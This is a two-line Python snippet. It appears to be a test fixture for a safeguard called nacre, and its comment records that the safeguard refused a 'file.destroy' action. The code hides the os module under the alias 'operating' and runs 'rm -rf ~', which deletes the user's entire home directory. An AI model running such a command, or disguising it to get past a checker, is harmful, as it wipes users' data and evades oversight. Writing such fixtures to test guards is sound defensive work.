# nacre: refused file.destroy
import os as operating
operating.system("rm -rf ~")
